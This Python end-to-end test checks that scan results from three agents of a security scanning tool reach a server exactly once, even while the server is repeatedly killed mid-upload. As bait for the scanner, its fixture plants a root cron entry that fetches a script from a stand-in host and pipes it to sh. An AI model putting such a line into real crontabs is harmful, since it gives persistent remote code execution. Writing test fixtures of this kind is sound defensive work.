"""Zero loss with several agents: three agents spool scans while the server
is away, then upload all at once while the server is killed with SIGKILL
again and again at random moments of the upload (each time soon after
the first batch is acknowledged); after a last restart
every scan every agent made is on the server exactly once with all its
findings. Runs on SQLite, and on PostgreSQL with RS_FLEET_DB=postgresql."""
import os
import random
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done  # noqa: E402
from fleet_e2e import (Agent, Server, check_exactly_once, expected_findings, make_root,  # noqa: E402
                       require_backend, spooled_scans)

AGENTS = 3
SCANS = 4
KILLS = 6
PASSED = 0


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def upload_all(agents, root):
    return [subprocess.Popen([RASOAT, "agent", "run", "--once", "--state", a.state, "--root", root,
                              "--only", "persist", "--retries", "1", "--max-backoff", "1"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) for a in agents]


def main():
    require_backend("test_fleet_zero_loss")
    with Tree("rasoat-fleet-zl-") as t:
        srv = Server(t.p("server/fleet.db")).start()
        try:
            scenario(t, srv)
        finally:
            srv.kill9()
    done("test_fleet_zero_loss", PASSED)


def scenario(t, srv):
    root = make_root(t, "host", ["* * * * * root curl http://a.example/x.sh | sh"])
    want = expected_findings(root)
    token = srv.token("--uses", str(AGENTS))
    key = srv.apikey()
    agents = [Agent(t.p(f"agent{i}")) for i in range(AGENTS)]
    for a in agents:
        a.enrol(srv.url, token)
    srv.stop()
    for a in agents:
        for _ in range(SCANS):
            code, _, err = a.run_once(root, "--scan", "--retries", "0")
            ok(code == 2, f"a scan with the server away is spooled (exit 2): {code} {err[-300:]}")
    made = {a.id: spooled_scans(a) for a in agents}
    ok(all(len(v) == SCANS for v in made.values()), f"{SCANS} scans spooled by each agent")

    rng = random.Random(os.getpid())
    partial = 0
    for k in range(KILLS):
        before = sum(len(a.spool()) for a in agents)
        srv.start()
        procs = upload_all(agents, root)
        # kill when the first batch is acknowledged, a random moment later
        deadline = time.time() + 10
        while time.time() < deadline and sum(len(a.spool()) for a in agents) >= before:
            time.sleep(0.002)
        time.sleep(rng.uniform(0, 0.08))
        srv.kill9()
        for p in procs:
            _, err = p.communicate(timeout=60)
            ok(p.returncode in (0, 2), f"kill {k}: an agent exited {p.returncode}: {err[-300:]}")
        after = sum(len(a.spool()) for a in agents)
        print(f"kill {k}: {before} batches spooled before, {after} after")
        partial += 0 < after < before
        ok(all(set(spooled_scans(a)) <= set(made[a.id]) for a in agents), "spools hold only made scans")
    srv.start()
    for _ in range(3):
        if all(not a.spool() for a in agents):
            break
        for p in upload_all(agents, root):
            p.communicate(timeout=60)
    ok(all(not a.spool() for a in agents), "every spool is empty in the end")
    ok(check_exactly_once(srv, key, made, want) == AGENTS, "every scan exactly once")
    ok(not any(os.listdir(os.path.join(a.state, "spool", "rejected"))
               for a in agents if os.path.isdir(os.path.join(a.state, "spool", "rejected"))),
       "no batch was rejected")
    print(f"{partial} of {KILLS} kills landed in the middle of the uploads")


if __name__ == "__main__":
    main()
